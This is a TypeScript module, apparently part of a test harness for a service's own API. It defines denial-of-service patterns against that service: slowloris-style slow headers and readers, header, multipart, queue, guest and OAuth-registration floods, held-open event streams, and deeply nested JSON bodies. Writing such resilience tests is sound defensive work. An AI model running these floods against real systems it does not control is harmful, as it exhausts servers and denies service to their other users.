/** What a caller may do to a server so that it has no time or room for others, each of a modest size and speed. */
import { type Behavior, type Connections, openConnections } from "./connections.ts";
import { startSlowUploads } from "./slow-uploads.ts";

export interface Target {
  baseUrl: string;
  /** Of the attacker's own organization. */
  key: string;
  /** A finished job with a large result, and one that is not finished. */
  done: string;
  waiting: string;
}

/** 20 requests a second, each on a connection of its own. */
const flood = (first: (n: number) => string): Behavior => ({
  most: Number.MAX_SAFE_INTEGER,
  perSecond: 20,
  first,
});

function request(target: Target, line: string, fields: readonly string[], body = ""): string {
  const { host } = new URL(target.baseUrl);
  const length = body === "" ? [] : [`Content-Length: ${Buffer.byteLength(body)}`];
  const head = [`${line} HTTP/1.1`, `Host: ${host}`, ...fields, ...length];
  return `${head.join("\r\n")}\r\n\r\n${body}`;
}

const authorized = ({ key }: Target) => `Authorization: Bearer ${key}`;
const closing = "Connection: close";
const json = "Content-Type: application/json";
const multipart = "Content-Type: multipart/form-data; boundary=b";
const part = (name: string, value: string) =>
  `--b\r\nContent-Disposition: form-data; ${name}\r\n\r\n${value}\r\n`;
const note = part('name="file"; filename="note.txt"', "The tide turns at noon.");
const nested = `${"[".repeat(30_000)}${"]".repeat(30_000)}`;

const behaviors = {
  "slow headers": (target) => ({
    most: 500,
    first: () => request(target, "GET /healthz", ["X-Slow: "]).slice(0, -4),
    drip: { bytes: "x", everyMs: 1_000 },
  }),
  "slow readers": (target) => ({
    most: 200,
    first: () => request(target, `GET /v1/jobs/${target.done}/download?format=md`, [authorized(target)]),
    reads: false,
  }),
  "header flood": (target) =>
    flood(() => request(target, "GET /healthz", Array(2_000).fill(`X-Field: ${"x".repeat(20)}`))),
  "multipart flood": (target) =>
    flood(() =>
      request(
        target,
        "POST /v1/estimates",
        [authorized(target), multipart, closing],
        part('name="x"', "1").repeat(10_000),
      ),
    ),
  "event streams": (target) => ({
    most: 500,
    first: () => request(target, `GET /v1/jobs/${target.waiting}/events`, [authorized(target)]),
  }),
  "idle connections": () => ({ most: 5_000 }),
  "queue flood": (target) =>
    flood(() =>
      request(
        target,
        "POST /v1/convert",
        [authorized(target), multipart, closing],
        `${part('name="max_credits"', "1")}${note}--b--\r\n`,
      ),
    ),
  "guest flood": (target) =>
    flood(() =>
      request(
        target,
        "POST /v1/estimates",
        [multipart, closing],
        `${part('name="guest_preview"', "true")}${note}--b--\r\n`,
      ),
    ),
  "registration flood": (target) =>
    flood((n) =>
      request(
        target,
        "POST /oauth2/register",
        [json, closing],
        JSON.stringify({ client_name: `Flood ${n}`, redirect_uris: ["http://127.0.0.1:1/callback"] }),
      ),
    ),
  "deep JSON": (target) =>
    flood(() => request(target, "POST /v1/jobs", [authorized(target), json, closing], nested)),
} satisfies Record<string, (target: Target) => Behavior>;

export type Attack = keyof typeof behaviors | "slow uploads";
export const attacks: readonly Attack[] = [
  ...(Object.keys(behaviors) as (keyof typeof behaviors)[]),
  "slow uploads",
];

export function startAttack(attack: Attack, target: Target): Connections {
  if (attack === "slow uploads") return startSlowUploads(target.baseUrl, [target.key], 1_000);
  return openConnections(target.baseUrl, behaviors[attack](target));
}
